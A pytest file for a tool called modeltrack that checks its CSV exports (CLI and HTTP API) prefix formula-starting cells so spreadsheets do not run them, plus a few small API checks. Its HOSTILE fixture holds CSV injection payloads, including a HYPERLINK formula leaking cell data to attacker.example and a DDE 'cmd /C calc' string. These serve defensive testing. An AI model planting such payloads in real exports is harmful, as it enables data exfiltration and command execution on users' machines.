"""CSV formula injection (issue M, item 12): attribution comes from request headers, so an export opened in a
spreadsheet must never run ``=HYPERLINK(…)``. Every CSV the product writes (the API's export of events and of
aggregates, ``report --format csv``, ``events --format csv``) neutralises cells that start a formula, as OWASP
advises, and leaves numbers alone."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from modeltrack.config import Settings
from modeltrack.sinks.sqlite import SQLiteSink
from modeltrack.tabular import csv_cell
from modeltrack.ui import create_app

from .test_cli import mt
from .test_pipeline import make_event

HOSTILE = {
    "team": '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "app": "+cmd|' /C calc'!A0",
    "feature": "-2+3",
    "user": "@SUM(1+1)*cmd",
}


def test_csv_cells_never_start_a_formula() -> None:
    for value in [*HOSTILE.values(), "\tx", "\rx"]:
        assert str(csv_cell(value)).startswith("'" + value[0])
    assert csv_cell(-0.5) == -0.5 and csv_cell(3) == 3  # numbers stay numbers
    assert csv_cell("search") == "search" and csv_cell(None) == "" and csv_cell(True) == "true"


@pytest.fixture
def store(tmp_path: Path) -> str:
    path = tmp_path / "events.db"
    now = datetime.now(UTC).strftime("%Y-%m-%dT%H:00:00.000Z")
    SQLiteSink(str(path)).write_sync([replace(make_event(i), timestamp=now, **HOSTILE) for i in range(3)])
    return f"sqlite:///{path}"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_safe(text: str) -> None:
    cells = _cells(text)
    for value in HOSTILE.values():
        assert value not in cells, value  # never raw
    assert "'" + HOSTILE["team"] in cells or any(c.startswith("'=HYPERLINK") for c in cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not _number(c))]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_cli_csv_outputs_are_safe(store: str) -> None:
    events = mt("events", "--store", store, "--format", "csv")
    assert events.returncode == 0, events.stderr
    _assert_safe(events.stdout)
    for by in ("team", "app", "feature", "user"):
        report = mt("report", "--store", store, "--by", by, "--format", "csv")
        assert report.returncode == 0, report.stderr
        cells = _cells(report.stdout)
        assert "'" + HOSTILE[by] in cells, (by, cells)
        assert HOSTILE[by] not in cells


async def test_export_neutralises_formulas(store: str, aiohttp_client: Any) -> None:
    client = await aiohttp_client(create_app(Settings.load(env={}, overrides={"store": store})))
    r = await client.get("/api/v1/export", params={"kind": "events", "format": "csv", "days": "7"})
    assert r.status == 200, await r.text()
    _assert_safe(await r.text())
    for by in ("team", "user"):
        r = await client.get(
            "/api/v1/export", params={"kind": "breakdown", "dimension": by, "format": "csv", "days": "7"}
        )
        assert r.status == 200, await r.text()
        cells = _cells(await r.text())
        assert "'" + HOSTILE[by] in cells and HOSTILE[by] not in cells


async def test_small_api_answers(store: str, aiohttp_client: Any) -> None:
    """Issue M, item 13: the export's file name names the last day it covers; what-if without to_model names
    to_model; status=4XX is accepted as the CLI accepts it."""
    client = await aiohttp_client(create_app(Settings.load(env={}, overrides={"store": store})))
    r = await client.get(
        "/api/v1/export", params={"kind": "events", "format": "csv", "since": "2026-11-01", "until": "2026-11-30"}
    )
    assert r.status == 200
    assert r.headers["Content-Disposition"].endswith('filename="modeltrack-events-2026-11-01-to-2026-11-30.csv"')
    r = await client.get("/api/v1/whatif", params={"days": "7"})
    assert r.status == 400 and "to_model=" in (await r.json())["error"]["message"]
    upper = await client.get("/api/v1/breakdown", params={"dimension": "team", "days": "7", "status": "2XX"})
    lower = await client.get("/api/v1/breakdown", params={"dimension": "team", "days": "7", "status": "2xx"})
    assert upper.status == lower.status == 200, await upper.text()
    assert (await upper.json())["total"] == (await lower.json())["total"]
    assert (await upper.json())["total"]["requests"] == 3
